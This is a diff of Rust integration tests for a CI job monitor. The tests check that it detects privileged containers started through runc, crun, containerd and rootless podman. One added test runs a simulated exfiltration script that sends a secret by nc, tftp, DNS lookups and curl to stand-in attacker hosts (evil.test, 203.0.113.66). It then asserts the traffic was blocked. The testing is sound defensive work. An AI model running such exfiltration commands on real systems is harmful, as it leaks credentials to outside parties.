@@ -4,7 +4,7 @@ mod life;
 mod privileged;
 
 use anyhow::{Result, ensure};
-use life::{Gate, Puppet};
+use life::{Gate, Puppet, blocked_by};
 use portcullis_tests::world::IMAGE;
 use portcullis_tests::{JobOutcome, World, wait_for};
 use privileged::{AUDIT, LOCKDOWN, found, wait_for_evidence};
@@ -54,7 +54,11 @@ fn find_runtimes(backend: &str) -> Result<()> {
     let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
     let id = gate.world.id();
     let runc = format!("sudo runc --root \"$PUPPET/r\" run {id}-runc");
-    let crun = format!("sudo crun --root \"$PUPPET/c\" --cgroup-manager=disabled run {id}-crun");
+    // crun refuses hosts that have cgroup v1 and v2 side by side, as this machine may: it sees the second only.
+    let crun = format!(
+        "sudo unshare --mount sh -c 'mount -t cgroup2 none /sys/fs/cgroup && exec crun --root \"$PUPPET/c\" \
+         --cgroup-manager=disabled run {id}-crun'"
+    );
     let plain = puppet.run(&format!("{}{runc}", bundle(&gate, "sleep 1", "")))?;
     ensure!(plain.succeeded(), "{plain:?}");
     assert_none_found(&gate)?;
@@ -63,13 +67,6 @@ fn find_runtimes(backend: &str) -> Result<()> {
         (&runc, HOST_PID, "host's pid namespace"),
         (&crun, HOST_PID, "host's pid namespace"),
     ] {
-        // crun refuses hosts that have cgroup v1 and v2 side by side, as this machine may.
-        if run == &crun {
-            let tried = puppet.run(&format!("{}{run}", bundle(&gate, "true", extra)))?;
-            if tried.output.contains("hybrid mode not supported") {
-                continue;
-            }
-        }
         let before = found(&gate)?.len();
         let script = bundle(&gate, "sleep 1000", extra);
         let begun = puppet.run(&format!("{script}{run} >\"$PUPPET/run\" 2>&1 & echo $!"))?;
@@ -108,6 +105,94 @@ fn runtimes_with_a_configuration_of_their_own_are_found() -> Result<()> {
 #[test]
 fn runtimes_are_found_without_bpf() -> Result<()> {
     find_runtimes("procfs")
+}
+
+/// K3: a containerd that no Docker engine has started, as nerdctl has one, by its own client. Its containers are its children,
+/// not the job's. The twin has what `ctr` gives to every one.
+fn find_containerd(backend: &str) -> Result<()> {
+    let world = World::builder().engine().build()?;
+    let containerd = world.containerd()?;
+    world.write_configuration(&format!("[sensors]\nbackend = \"{backend}\"\n"))?;
+    let gate = Gate::up(world, &[("policy", AUDIT)])?;
+    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
+    let run = |name: &str, options: &str, command: &str| {
+        format!("sudo {}", containerd.run(&gate.world, name, options, command))
+    };
+    let plain = puppet.run(&run("plain", "", "/bin/sleep 1"))?;
+    ensure!(plain.succeeded(), "{plain:?}");
+    assert_none_found(&gate)?;
+    for (name, options, word) in [
+        ("capability", "--cap-add CAP_SYS_ADMIN", "SYS_ADMIN"),
+        ("root", "--mount type=bind,src=/,dst=/tmp,options=rbind:ro", "the host's / mounted"),
+    ] {
+        let before = found(&gate)?.len();
+        let begun = run(name, options, "/bin/sleep 1000");
+        let begun = puppet.run(&format!("{begun} >\"$PUPPET/run\" 2>&1 & echo $!"))?;
+        ensure!(begun.succeeded(), "{name}: {begun:?}");
+        let found_it = wait_for("another finding", || {
+            let found = found(&gate).ok()?;
+            found.iter().skip(before).any(|event| event.evidence.contains(word)).then_some(())
+        });
+        found_it.map_err(|error| {
+            let said = puppet.run("cat \"$PUPPET/run\"");
+            error.context(format!("{name}: {said:?}\n{}", gate.monitor.log()))
+        })?;
+        ensure!(found(&gate)?.len() == before + 1, "{:#?}", found(&gate)?);
+    }
+    let result = puppet.finish()?;
+    gate.monitor.wait_until_idle()?;
+    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
+    Ok(())
+}
+
+#[test]
+fn containers_of_containerd_alone_are_found() -> Result<()> {
+    find_containerd("bpf")
+}
+
+#[test]
+fn containers_of_containerd_alone_are_found_without_bpf() -> Result<()> {
+    find_containerd("procfs")
+}
+
+/// What a rootless engine makes has a user namespace of its own: whatever is asked for, it has no privileges over the host. What
+/// it sends goes through a program of the job's, and is judged like the job's.
+#[test]
+fn rootless_containers_are_ordinary_and_judged() -> Result<()> {
+    let world = World::builder().engine().build()?;
+    world.rootless_podman(0)?;
+    let gate = Gate::up(world, &[("policy", AUDIT)])?;
+    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
+    for options in ["", "--pid=host", "-v /:/host", "--cap-add SYS_ADMIN"] {
+        let ran = puppet.run(&format!(
+            "rootless-podman run --rm --network none {options} localhost/{IMAGE} sleep 1"
+        ))?;
+        ensure!(ran.succeeded(), "{options}: {ran:?}");
+    }
+    let network = "--network slirp4netns:enable_ipv6=true";
+    let called = puppet.run(&format!(
+        "rootless-podman run --rm {network} localhost/{IMAGE} curl -sS --max-time 10 -o /dev/null http://ok.test/"
+    ))?;
+    ensure!(called.succeeded(), "{called:?}\n{}", gate.monitor.log());
+    let sent = puppet.run(&format!(
+        "rootless-podman run --rm -e S {network} localhost/{IMAGE} sh -c '
+for a in 203.0.113.66 2001:db8::66; do
+    echo \"$S\" | nc -w 1 $a 4444
+    echo \"$S\" >/tmp/s; timeout 1 tftp -p -l /tmp/s -r \"$S\" $a 4445
+done
+nslookup $S.evil.test; nslookup $S.evil.test 203.0.113.66
+curl -sS --max-time 2 http://evil.test/$S
+echo sent'"
+    ))?;
+    ensure!(sent.output.contains("sent"), "{sent:?}");
+    let result = puppet.finish()?;
+    gate.monitor.wait_until_idle()?;
+    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
+    gate.assert_contained(&result)?;
+    assert_none_found(&gate)?;
+    let events = gate.last_events()?;
+    ensure!(blocked_by(&events, "203.0.113.66", 4444, "slirp4netns"), "{events:#?}");
+    Ok(())
 }
 
 /// A container that does nothing and ends at once is found all the same, each of many, and never one between them that has no
